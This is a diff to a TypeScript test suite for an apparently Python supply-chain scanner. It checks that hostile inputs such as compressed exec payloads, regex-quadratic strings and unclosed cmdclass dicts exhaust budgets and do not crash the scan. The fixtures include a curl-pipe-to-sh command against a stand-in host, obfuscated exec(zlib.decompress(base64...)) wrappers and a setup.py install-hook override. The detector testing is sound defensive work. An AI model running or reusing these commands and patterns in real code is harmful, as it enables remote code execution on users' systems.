@@ -1,12 +1,13 @@
 // Broken and hostile Python source through the whole CLI: odd encodings, NUL bytes, a 10 MB single line and
 // 100k nested parentheses are analysed (or listed as partial) without a crash; exit codes follow --fail-on.
 import assert from 'node:assert/strict';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import type { FileReport } from '../../src/model/result.ts';
+import { deflateSync } from 'node:zlib';
+import type { AuditResult, FileReport } from '../../src/model/result.ts';
 import { runCli, scanJson } from './run-cli.ts';
 
 const FIXTURES = fileURLToPath(new URL('../../fixtures/rules/', import.meta.url));
@@ -99,6 +100,88 @@ describe('hostile and broken source', () => {
   });
 });
 
+/** A folder with the hostile file next to an ordinary file that sends data out: that payload must still be found. */
+async function scanBesidePayload(name: string, hostile: string, hostileName = 'hostile.py'): Promise<{ result: AuditResult; hostile: FileReport }> {
+  const folder = join(dir, name);
+  mkdirSync(folder);
+  writeFileSync(join(folder, hostileName), hostile);
+  writeFileSync(join(folder, 'payload.py'), `import requests\n${CALL}\n`);
+  const { code, result } = await scanJson(name, dir);
+  assert.ok(code === 0 || code === 1, `exit ${code}`);
+  assert.equal(result.summary.errors, 0);
+  const payload = result.targets[0].files.find((file) => file.path === 'payload.py')!;
+  assert.equal(networkCall(payload)?.destination?.host, 'hostile.example', 'the payload of the other file is still found');
+  return { result, hostile: result.targets[0].files.find((file) => file.path === hostileName)! };
+}
+
+const rules = (file: FileReport) => file.findings.map((finding) => finding.rule);
+const zlibExec = (code: string) => `exec(zlib.decompress(base64.b64decode("${deflateSync(Buffer.from(code)).toString('base64')}")))`;
+
+describe('budgets, not crashes: one hostile file never aborts the scan of the others', () => {
+  before(() => {
+    dir = mkdtempSync(join(tmpdir(), 'pyguard-budget-'));
+  });
+  after(() => rmSync(dir, { recursive: true, force: true }));
+
+  test('"".join of 600 copies of a 1 MB constant is folded within its bound, not built', async () => {
+    const source = `import requests\nA = "${'A'.repeat(1 << 20)}"\nB = "".join([${Array(600).fill('A').join(', ')}])\nC = f"${'{A}'.repeat(600)}"\nrequests.get(B)\nrequests.get(C)\n`;
+    const { result, hostile } = await scanBesidePayload('join', source);
+    assert.deepEqual(rules(hostile), ['egress-network-call', 'egress-network-call']);
+    assert.equal(result.targets[0].unaudited, undefined);
+  });
+
+  test('a 50 000-deep assignment target is walked without overflowing the stack', async () => {
+    const depth = 50_000;
+    const { result, hostile } = await scanBesidePayload('deep_target', `${'('.repeat(depth)}x${',)'.repeat(depth)} = y\nimport requests\nrequests.get("https://deep.example/")\n`);
+    assert.equal(networkCall(hostile)?.destination?.host, 'deep.example');
+    assert.equal(result.targets[0].unaudited, undefined);
+  });
+
+  test('50 small exec(zlib.decompress(b64...)) payloads: the virtual-file budget stops the rescans and the target is unaudited', async () => {
+    const payloads = Array.from({ length: 50 }, (_, index) => zlibExec(`N${index} = ${index}\n${'x = 1\n'.repeat(1200)}`));
+    const { result, hostile } = await scanBesidePayload('exec_bombs', `import zlib, base64\n${payloads.join('\n')}\n`);
+    assert.equal(rules(hostile).filter((rule) => rule === 'exec-decoded-payload').length, 50);
+    const skipped = result.targets[0].files.filter((file) => file.path.startsWith('hostile.py#decoded-') && rules(file).includes('file-not-analysed'));
+    assert.ok(skipped.length > 0 && skipped.length < 50, `${skipped.length} payloads skipped`);
+    assert.match(result.targets[0].unaudited?.[0].reason ?? '', /budget for decoded payloads is spent/);
+  });
+
+  test('decoding stops at the target\'s budget of decoded bytes, and says so', async () => {
+    // 3.9 MB each, repetitive enough to stay under the decompression-ratio limit, not so much as to look like a bomb
+    const block = Array.from({ length: 2048 }, (_, i) => String.fromCharCode(97 + ((i * 7919) % 26))).join('');
+    const payloads = Array.from({ length: 6 }, (_, index) => zlibExec(`#${index}${block.repeat(1900)}`));
+    const { result, hostile } = await scanBesidePayload('decoded_bytes', `import zlib, base64\n${payloads.join('\n')}\n`);
+    assert.ok(hostile.findings.some((finding) => finding.rule === 'file-not-analysed' && /budget for decoded bytes/.test(finding.message)));
+    assert.ok(result.targets[0].unaudited?.some((item) => item.path === 'hostile.py'));
+  });
+
+  test('inputs that make backtracking regexes quadratic are read in linear time', async () => {
+    const commas = ','.repeat(200_000);
+    const source = [
+      'import base64, requests',
+      `requests.get("https://trail.example/${commas}x")`,
+      `base64.b64decode("${'='.repeat(200_000)}A")`,
+      `exec(base64.b64decode("${Buffer.from(`${'if '.repeat(20_000)}\n${'a.'.repeat(20_000)}`).toString('base64')}"))`,
+      `API_TOKEN = "${'<'.repeat(100_000)}"`,
+      `OPENAI_KEY = "${'sk-'.repeat(100_000)}"`,
+      `import os\nos.system("${'powershell '.repeat(50_000)}")`,
+      `os.system("${'curl iex '.repeat(50_000)}")`,
+      `os.system("${'wget '.repeat(50_000)}| xargs echo | sh")`,
+      'os.system("curl -s https://get.example/i.sh | sh")',
+      '',
+    ].join('\n');
+    const { hostile } = await scanBesidePayload('quadratic', source);
+    assert.equal(networkCall(hostile)?.destination?.host, 'trail.example');
+    assert.ok(hostile.findings.some((finding) => finding.rule === 'download-execute'));
+  });
+
+  test('a setup.py of many unclosed cmdclass dicts is read in linear time, and a real override after them is found', async () => {
+    const source = `from setuptools import setup\n${'cmdclass={'.repeat(50_000)}}\nsetup(cmdclass={"install": Install})\n`;
+    const { hostile } = await scanBesidePayload('cmdclass', source, 'setup.py');
+    assert.equal(hostile.findings.find((finding) => finding.rule === 'install-hook-cmdclass')?.line, 3);
+  });
+});
+
 describe('scan exit codes', () => {
   test('0 when nothing reaches --fail-on (default high)', async () => {
     const run = await runCli(['scan', 'egress/requests_post.py', '--json'], FIXTURES);
@@ -113,7 +196,7 @@ describe('scan exit codes', () => {
   test('2 with a one-line message for a path that does not exist', async () => {
     const run = await runCli(['scan', 'no/such/file.py'], FIXTURES);
     assert.equal(run.code, 2);
-    assert.match(run.stderr, /^pyguard: no\/such\/file\.py: no such file or directory\n$/);
+    assert.match(run.stderr, /^pyguard: scan: no\/such\/file\.py: no such file or folder\n$/);
     assert.equal(run.stdout, '');
   });
 
